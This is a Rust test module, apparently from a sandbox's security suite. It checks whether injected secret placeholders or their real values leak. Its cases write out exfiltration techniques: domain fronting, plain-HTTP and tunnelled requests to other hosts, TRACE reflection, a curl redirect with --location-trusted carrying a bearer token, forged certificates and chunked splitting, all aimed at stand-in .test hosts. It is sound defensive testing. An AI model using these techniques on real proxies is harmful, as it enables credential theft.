//! Placeholders where they must stay placeholders, and values where they must not be. The control of each is the one place
//! that was agreed, where the value does arrive.

mod changed;
mod kept;

use sandbar_api::SetSecret;
use sandbar_client::Client;

use crate::{
    attack::{Attack, Class, Control, Finding, act},
    names::RULES,
    stage::{Stage, Target, recipe},
    support::Outcome,
    wire::{SILENCE, Step, brief, h2, tunnel},
};

const ONE: &[&str] = &["standard"];
const VALUE: &str = "value-of-the-token-that-stays-outside-4711";
const QUERY: &str = "value-of-the-query-that-stays-outside-4712";
const BODY: &str = "value-of-the-body-that-stays-outside-4713";
const KEY: &str = "sk-key-of-the-vendor-that-stays-outside-4714";
const VALUES: [&str; 4] = [VALUE, QUERY, BODY, KEY];

/// What the operator's server keeps.
pub(crate) async fn keep(client: &Client) -> Outcome {
    for (name, host, placement, value) in [
        ("API_TOKEN", "key.out.test", "header:Authorization:Bearer {}", VALUE),
        ("QUERY_TOKEN", "key.out.test", "query:key", QUERY),
        ("BODY_TOKEN", "body.out.test", "body", BODY),
        ("OPENAI_API_KEY", "llm.out.test", "header:Authorization:Bearer {}", KEY),
    ] {
        let request = SetSecret { hosts: vec![host.into()], placement: placement.into(), value: Some(value.into()) };
        client.set_secret(name, &request).await?;
    }
    Ok(())
}

pub(crate) fn all() -> Vec<Attack> {
    let secret = |name, act| {
        Attack::act(Class::Secrets, name, act, Control::Act("in its place", act!(in_place))).on(ONE).with(RULES)
    };
    vec![
        secret("placeholder_to_another_host", act!(other_host)),
        secret("placeholder_in_a_tunnel", act!(in_a_tunnel)),
        secret("placeholder_in_plain", act!(in_plain)),
        secret("placeholder_in_plain_in_a_tunnel", act!(in_plain_tunnel)),
        secret("placeholder_in_another_place", act!(other_place)),
        secret("placeholder_written_otherwise", act!(otherwise)),
        secret("placeholder_with_the_host_of_another", act!(fronted)),
        secret("placeholder_shown_by_trace", act!(trace)),
        secret("placeholder_after_a_redirect", act!(redirect)),
        secret("placeholder_to_a_forged_server", act!(forged)),
        Attack::act(
            Class::Secrets,
            "placeholder_in_single_bytes",
            act!(single_bytes),
            Control::Act("in one", act!(in_one_piece)),
        )
        .on(ONE)
        .with(RULES),
        Attack::act(
            Class::Secrets,
            "placeholder_over_chunks",
            act!(over_chunks),
            Control::Act("in one", act!(body_in_one)),
        )
        .on(ONE)
        .with(RULES),
        secret("placeholder_of_a_neighbour", act!(neighbours)),
        secret("placeholder_after_revocation", act!(changed::revoked)),
        secret("placeholder_after_removal", act!(changed::removed)),
        Attack::act(
            Class::Secrets,
            "old_value_after_rotation",
            act!(changed::rotated),
            Control::Act("before it", act!(changed::before_rotation)),
        )
        .on(ONE)
        .with(RULES),
        Attack::act(
            Class::Secrets,
            "values_inside",
            act!(kept::inside),
            Control::Act("the placeholder", act!(kept::placeholder_inside)),
        )
        .with(RULES),
        Attack::act(
            Class::Secrets,
            "values_in_what_the_server_keeps",
            act!(kept::kept),
            Control::Act("the secret's name", act!(kept::name_kept)),
        )
        .on(ONE)
        .with(RULES),
        Attack::act(
            Class::Secrets,
            "values_read_by_api",
            act!(kept::read_back),
            Control::Act("the secret's name", act!(kept::name_read)),
        )
        .on(ONE)
        .with(RULES),
        Attack::act(
            Class::Secrets,
            "value_that_breaks_a_line",
            act!(changed::breaking),
            Control::Act("one that does not", act!(in_place)),
        )
        .on(ONE)
        .with(RULES),
    ]
}

/// A request over TLS to a host that is terminated or tunnelled; what of the values arrived.
async fn over_tls(stage: &Stage, target: &Target, host: &'static str, request: &str, mark: &str) -> Outcome<Finding> {
    let port = stage.outside.tls;
    let request = request.replace("PORT", &port.to_string()).replace("MARK", mark);
    let steps = tunnel(format!("{host}:{port}"), vec![Step::Tls(host, "http/1.1"), Step::send(request)]);
    let heard = stage.wire(target, &steps).await?;
    Ok(arrived(stage, mark, &heard))
}

/// The values of what arrived with this mark, and whether one came back.
fn arrived(stage: &Stage, mark: &str, heard: &str) -> Finding {
    if let Some(value) = VALUES.iter().find(|value| heard.contains(**value)) {
        return Finding::escaped(format!("{value} came back"));
    }
    let got: Vec<u8> = stage.outside.with(mark).into_iter().flat_map(|one| one.raw).collect();
    let got = String::from_utf8_lossy(&got);
    match VALUES.iter().find(|value| got.contains(**value)) {
        Some(value) => Finding::escaped(format!("{value} arrived")),
        None if got.contains("sbp_") => Finding::contained("a placeholder arrived"),
        None if got.is_empty() => Finding::contained(format!("nothing was sent: {}", brief(heard))),
        None => Finding::contained("it arrived without"),
    }
}

fn bearer(placeholder: &str, host: &str, path: &str) -> String {
    format!("GET {path} HTTP/1.1\r\nHost: {host}\r\nAuthorization: Bearer {placeholder}\r\nConnection: close\r\n\r\n")
}

async fn in_place(stage: &Stage, target: &Target) -> Outcome<Finding> {
    let (mark, placeholder) = (stage.mark(), stage.placeholder(target, "API_TOKEN").await?);
    over_tls(stage, target, "key.out.test", &bearer(&placeholder, "key.out.test:PORT", "/MARK"), &mark).await
}

async fn other_host(stage: &Stage, target: &Target) -> Outcome<Finding> {
    let (mark, placeholder) = (stage.mark(), stage.placeholder(target, "API_TOKEN").await?);
    over_tls(stage, target, "judged.out.test", &bearer(&placeholder, "judged.out.test:PORT", "/open/MARK"), &mark).await
}

async fn in_a_tunnel(stage: &Stage, target: &Target) -> Outcome<Finding> {
    let (mark, placeholder) = (stage.mark(), stage.placeholder(target, "API_TOKEN").await?);
    over_tls(stage, target, "open.out.test", &bearer(&placeholder, "key.out.test", "/MARK"), &mark).await
}

/// Towards its own host, which it must not reach like that: not even the placeholder goes.
async fn in_plain(stage: &Stage, target: &Target) -> Outcome<Finding> {
    let (placeholder, port) = (stage.placeholder(target, "API_TOKEN").await?, stage.outside.plain);
    let query = stage.placeholder(target, "QUERY_TOKEN").await?;
    let basic = sandbar_api::bytes::encode(format!("x:{placeholder}").as_bytes());
    let mut last = Finding::not_run("nothing was tried");
    for (path, more) in [
        ("/MARK".to_owned(), format!("Authorization: Bearer {placeholder}\r\n")),
        ("/MARK".to_owned(), format!("Authorization: Basic {basic}\r\n")),
        (format!("/MARK?key={query}"), String::new()),
        (format!("/MARK/{placeholder}"), String::new()),
        ("/MARK".to_owned(), format!("X-Other: {placeholder}\r\n")),
    ] {
        let mark = stage.mark();
        let request =
            format!("GET http://key.out.test:{port}{path} HTTP/1.1\r\nHost: x\r\n{more}Connection: close\r\n\r\n")
                .replace("MARK", &mark);
        let heard = stage.wire(target, &[Step::send(request), Step::Answer(SILENCE)]).await?;
        last = arrived(stage, &mark, &heard);
        if stage.outside.saw(&mark) {
            return Ok(Finding::escaped(format!("{path}: sent in plain, {}", last.line())));
        }
    }
    Ok(last)
}

async fn in_plain_tunnel(stage: &Stage, target: &Target) -> Outcome<Finding> {
    let (mark, placeholder) = (stage.mark(), stage.placeholder(target, "API_TOKEN").await?);
    let port = stage.outside.plain;
    let request = bearer(&placeholder, &format!("key.out.test:{port}"), &format!("/{mark}"));
    let heard = stage.wire(target, &tunnel(format!("key.out.test:{port}"), vec![Step::send(request)])).await?;
    let found = arrived(stage, &mark, &heard);
    Ok(if stage.outside.saw(&mark) { Finding::escaped(format!("sent in plain, {}", found.line())) } else { found })
}

async fn other_place(stage: &Stage, target: &Target) -> Outcome<Finding> {
    let token = stage.placeholder(target, "API_TOKEN").await?;
    let query = stage.placeholder(target, "QUERY_TOKEN").await?;
    let host = "Host: key.out.test:PORT\r\nConnection: close\r\n";
    let mut last = Finding::not_run("nothing was tried");
    for request in [
        format!("GET /MARK HTTP/1.1\r\n{host}X-Api-Key: {token}\r\n\r\n"),
        format!("GET /MARK HTTP/1.1\r\n{host}Authorization: Token {token}\r\n\r\n"),
        format!("GET /MARK HTTP/1.1\r\n{host}Authorization: Bearer x{token}\r\n\r\n"),
        format!("GET /MARK HTTP/1.1\r\n{host}Authorization: Bearer {query}\r\n\r\n"),
        format!("GET /MARK HTTP/1.1\r\n{host}Cookie: {token}\r\n\r\n"),
        format!("GET /MARK/{token} HTTP/1.1\r\n{host}\r\n"),
        format!("GET /MARK?key={token} HTTP/1.1\r\n{host}\r\n"),
        format!("GET /MARK?other={query} HTTP/1.1\r\n{host}\r\n"),
        format!("GET /MARK?other=key={query} HTTP/1.1\r\n{host}\r\n"),
        format!("POST /MARK HTTP/1.1\r\n{host}Content-Length: {}\r\n\r\n{token}", token.len()),
        format!("POST /MARK HTTP/1.1\r\n{host}Content-Length: {}\r\n\r\nkey={query}", query.len() + 4),
        format!("GET /MARK HTTP/1.1\r\n{host}{token}: Bearer x\r\n\r\n"),
    ] {
        let mark = stage.mark();
        last = over_tls(stage, target, "key.out.test", &request, &mark).await?;
        if matches!(last, Finding::Escaped(_)) {
            return Ok(Finding::escaped(format!("{}: {}", request.escape_debug(), last.line())));
        }
    }
    Ok(last)
}

async fn otherwise(stage: &Stage, target: &Target) -> Outcome<Finding> {
    let token = stage.placeholder(target, "API_TOKEN").await?;
    let percent: String = token.bytes().map(|byte| format!("%{byte:02x}")).collect();
    let mut last = Finding::not_run("nothing was tried");
    for form in [
        token.to_ascii_uppercase(),
        sandbar_api::bytes::encode(token.as_bytes()),
        percent,
        token[..token.len() - 1].to_owned(),
        format!("{token}x"),
        format!("{token} {token}"),
        token.replacen("sbp_", "sbp-", 1),
        "sbp_".to_owned() + &"0".repeat(40),
    ] {
        let mark = stage.mark();
        last = over_tls(stage, target, "key.out.test", &bearer(&form, "key.out.test:PORT", "/MARK"), &mark).await?;
        if matches!(last, Finding::Escaped(_)) {
            return Ok(Finding::escaped(format!("{form}: {}", last.line())));
        }
    }
    Ok(last)
}

/// agentcage's hole: one name chose the server, another whose secret was put in.
async fn fronted(stage: &Stage, target: &Target) -> Outcome<Finding> {
    let (token, port) = (stage.placeholder(target, "API_TOKEN").await?, stage.outside.tls);
    let mut last = Finding::not_run("nothing was tried");
    for (connect, sni, named) in [
        ("judged.out.test", "judged.out.test", "key.out.test"),
        ("judged.out.test", "key.out.test", "key.out.test"),
        ("judged.out.test", "key.out.test", "judged.out.test"),
        ("key.out.test", "judged.out.test", "key.out.test"),
        ("open.out.test", "key.out.test", "key.out.test"),
    ] {
        let mark = stage.mark();
        let request = bearer(&token, &format!("{named}:{port}"), &format!("/open/{mark}"));
        let steps = tunnel(format!("{connect}:{port}"), vec![Step::Tls(sni, "http/1.1"), Step::send(request)]);
        let heard = stage.wire(target, &steps).await?;
        last = arrived(stage, &mark, &heard);
        let (authority, bearer, path) = (format!("{named}:{port}"), format!("Bearer {token}"), format!("/open/{mark}"));
        let fields: [(&[u8], &[u8]); 5] = [
            (b":method", b"GET"),
            (b":scheme", b"https"),
            (b":authority", authority.as_bytes()),
            (b":path", path.as_bytes()),
            (b"authorization", bearer.as_bytes()),
        ];
        let steps = tunnel(format!("{connect}:{port}"), vec![Step::Tls(sni, "h2"), Step::Send(h2(&fields, None))]);
        let heard = stage.wire(target, &steps).await?;
        for found in [&last, &arrived(stage, &mark, &heard)] {
            if let Finding::Escaped(what) = found {
                return Ok(Finding::escaped(format!("{connect}, {sni}, {named}: {what}")));
            }
        }
    }
    Ok(last)
}

/// The right name and the wrong certificate, as whoever sits between would show it.
async fn forged(stage: &Stage, target: &Target) -> Outcome<Finding> {
    let (mark, token, port) = (stage.mark(), stage.placeholder(target, "API_TOKEN").await?, stage.outside.forged);
    let request = bearer(&token, &format!("key.out.test:{port}"), &format!("/{mark}"));
    let steps =
        tunnel(format!("key.out.test:{port}"), vec![Step::Tls("key.out.test", "http/1.1"), Step::send(request)]);
    let heard = stage.wire(target, &steps).await?;
    let found = arrived(stage, &mark, &heard);
    Ok(if stage.outside.saw(&mark) { Finding::escaped("it was sent") } else { found })
}

async fn trace(stage: &Stage, target: &Target) -> Outcome<Finding> {
    let (mark, token) = (stage.mark(), stage.placeholder(target, "API_TOKEN").await?);
    let request = bearer(&token, "key.out.test:PORT", "/MARK").replacen("GET", "TRACE", 1);
    over_tls(stage, target, "key.out.test", &request, &mark).await
}

/// The server sends the client elsewhere: what goes there is the client's own word.
async fn redirect(stage: &Stage, target: &Target) -> Outcome<Finding> {
    let token = stage.placeholder(target, "API_TOKEN").await?;
    if stage.sh(target, "command -v curl").await?.exit.code != 0 {
        return Ok(Finding::not_run("there is no curl"));
    }
    let (mark, tls, plain) = (stage.mark(), stage.outside.tls, stage.outside.plain);
    let mut heard = String::new();
    for to in [format!("https://judged.out.test:{tls}/open/{mark}"), format!("http://open.out.test:{plain}/{mark}")] {
        let script = format!(
            "curl -sk --max-time 15 -L --location-trusted -H 'Authorization: Bearer {token}' https://key.out.test:{tls}/to={to}"
        );
        heard += &stage.sh(target, &script).await?.stdout;
    }
    if !stage.outside.saw(&format!("GET /{mark}")) {
        return Err(format!("the redirect was not followed: {heard}").into());
    }
    // At its own host the value is in place; the path there names the mark as well.
    let own = |one: &crate::outside::Connection| one.heads.iter().any(|head| head.contains("/to="));
    let got: Vec<u8> = stage.outside.with(&mark).into_iter().filter(|one| !own(one)).flat_map(|one| one.raw).collect();
    let got = String::from_utf8_lossy(&got);
    Ok(match VALUES.iter().any(|value| got.contains(value) || heard.contains(value)) {
        true => Finding::escaped("the value went to where the redirect led"),
        false => Finding::contained("a placeholder went there"),
    })
}

/// The value has to arrive whole however the placeholder is cut, or nothing at all: half of it is a leak of neither.
async fn single_bytes(stage: &Stage, target: &Target) -> Outcome<Finding> {
    let (mark, token, port) = (stage.mark(), stage.placeholder(target, "API_TOKEN").await?, stage.outside.tls);
    let request = bearer(&token, &format!("key.out.test:{port}"), &format!("/{mark}"));
    let then = vec![Step::Tls("key.out.test", "http/1.1"), Step::Slowly(request.into_bytes())];
    stage.wire(target, &tunnel(format!("key.out.test:{port}"), then)).await?;
    Ok(whole(stage, &mark, VALUE))
}

/// Never a placeholder that went out although its place and host were right.
fn whole(stage: &Stage, mark: &str, value: &str) -> Finding {
    let got: Vec<u8> = stage.outside.with(mark).into_iter().flat_map(|one| one.raw).collect();
    let got = String::from_utf8_lossy(&got);
    match (got.contains("sbp_"), got.contains(value)) {
        (true, _) => Finding::escaped("the placeholder went out"),
        (false, true) => Finding::contained("swapped"),
        (false, false) => Finding::contained("nothing of it was sent"),
    }
}

/// What the judge of these calls an escape: a placeholder that arrived, at a host that is not its own.
async fn in_one_piece(stage: &Stage, target: &Target) -> Outcome<Finding> {
    let (mark, token) = (stage.mark(), stage.placeholder(target, "API_TOKEN").await?);
    over_tls(stage, target, "judged.out.test", &bearer(&token, "judged.out.test:PORT", "/open/MARK"), &mark).await?;
    Ok(whole(stage, &mark, VALUE))
}

async fn over_chunks(stage: &Stage, target: &Target) -> Outcome<Finding> {
    let (mark, token, port) = (stage.mark(), stage.placeholder(target, "BODY_TOKEN").await?, stage.outside.tls);
    let head = format!(
        "POST /{mark} HTTP/1.1\r\nHost: body.out.test:{port}\r\nTransfer-Encoding: chunked\r\nConnection: close\r\n\r\n"
    );
    let chunks: String = token.chars().map(|letter| format!("1;x=y\r\n{letter}\r\n")).collect();
    let then =
        vec![Step::Tls("body.out.test", "http/1.1"), Step::Slowly(format!("{head}{chunks}0\r\n\r\n").into_bytes())];
    stage.wire(target, &tunnel(format!("body.out.test:{port}"), then)).await?;
    let (got, swapped) = (stage.outside.saw(&mark), stage.outside.with(&mark));
    let raw: Vec<u8> = swapped.into_iter().flat_map(|one| one.raw).collect();
    // In whatever chunks it went out, its letters are no longer those of the placeholder.
    let letters: String = String::from_utf8_lossy(&raw).split("\r\n").filter(|part| part.len() == 1).collect();
    Ok(match (letters.contains(&token[4..]), got) {
        (true, _) => Finding::escaped("the placeholder went out"),
        (false, true) => whole(stage, &mark, BODY),
        (false, false) => Finding::contained("nothing was sent"),
    })
}

async fn body_in_one(stage: &Stage, target: &Target) -> Outcome<Finding> {
    let (mark, token) = (stage.mark(), stage.placeholder(target, "BODY_TOKEN").await?);
    let request = format!(
        "POST /open/MARK HTTP/1.1\r\nHost: judged.out.test:PORT\r\nConnection: close\r\nContent-Length: {}\r\n\r\n{token}",
        token.len()
    );
    over_tls(stage, target, "judged.out.test", &request, &mark).await?;
    Ok(whole(stage, &mark, BODY))
}

/// Two sandboxes with the same secret have two placeholders.
async fn neighbours(stage: &Stage, target: &Target) -> Outcome<Finding> {
    let other = stage.fresh(target.profile, &recipe(target.profile, RULES, &[])).await?;
    let (mark, token) = (stage.mark(), stage.placeholder(&other, "API_TOKEN").await?);
    let found = over_tls(stage, target, "key.out.test", &bearer(&token, "key.out.test:PORT", "/MARK"), &mark).await;
    stage.delete(&other).await?;
    let own = stage.placeholder(target, "API_TOKEN").await?;
    Ok(if own == token { Finding::escaped("they have the same") } else { found? })
}
